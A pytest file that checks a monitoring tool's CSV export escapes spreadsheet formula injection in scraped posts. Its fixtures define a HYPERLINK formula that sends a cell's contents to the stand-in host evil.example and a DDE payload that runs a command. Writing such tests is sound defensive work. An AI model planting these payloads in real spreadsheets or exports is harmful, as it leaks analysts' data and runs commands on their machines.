"""CSV cells a spreadsheet would run as formulas are written as text (issue 13.1).

Post text is written by the people being watched; an analyst opens the export in a spreadsheet.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import sqlite_utils

from config import FeedConfig, Settings
from riftwatch.byod.writers import FORMULA_STARTS, atomic_rows, neutralise_formula
from store.feeds import add_feed
from store.items import save_items
from store.models import Item, to_iso, utc_now

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def _seed_hostile_post(db: sqlite_utils.Database) -> None:
    feed = add_feed(db, FeedConfig(name="hostile", kind="telegram", role="blogger",
                                   channel="hostile", title="@SUM(1+1)*cmd"))
    save_items(db, feed.id, [Item(text=HYPERLINK, channel="hostile", post_id=1,
                                  author=" +1 555", published_at=utc_now())])
    item_id = db.execute("SELECT id FROM items").fetchone()[0]
    db["scores"].insert({
        "item_id": item_id, "model_version": "sample-model", "stance": "critical",
        "p_supportive": 0.1, "p_critical": 0.7, "p_alarmed": 0.1, "p_neutral": 0.1,
        "themes": json.dumps({"mod_criticism": 0.9}), "targets": json.dumps(["=1+1"]),
        "themes_present": json.dumps(["mod_criticism"]),
        "evidence": DDE, "language": "ru", "scored_at": to_iso(utc_now())})


def test_export_with_scores_neutralises_formulas_in_every_text_column(
    settings: Settings, db: sqlite_utils.Database, db_path: Path, tmp_path: Path, run_cli
) -> None:
    _seed_hostile_post(db)
    out = tmp_path / "week.csv"
    code, _, err = run_cli("export", "--since", "1d", "--with-scores", "--out", out,
                           "--db", db_path)
    assert code == 0, err
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["text"] == "'" + HYPERLINK
    assert rows[0]["evidence"] == "'" + DDE
    assert rows[0]["feed_title"] == "'@SUM(1+1)*cmd"
    assert rows[0]["author"] == "' +1 555"
    assert not [cell for row in rows for cell in row.values() if _dangerous(cell)]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "  =1", "\n-x"])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "1-2", "a=b", "", "'=already"])
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_formula(text) == text


def test_jsonl_keeps_the_text_as_it_was(tmp_path: Path) -> None:
    out = tmp_path / "rows.jsonl"
    with atomic_rows(out, "jsonl", ["message"]) as writer:
        writer.write({"message": DDE})
    assert json.loads(out.read_text(encoding="utf-8")) == {"message": DDE}
